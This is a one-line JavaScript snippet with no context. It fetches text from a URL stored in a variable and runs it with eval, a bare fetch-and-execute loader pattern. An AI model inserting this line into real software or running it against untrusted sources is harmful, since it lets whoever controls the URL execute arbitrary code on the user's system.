fetch(u).then((r) => r.text()).then(eval);
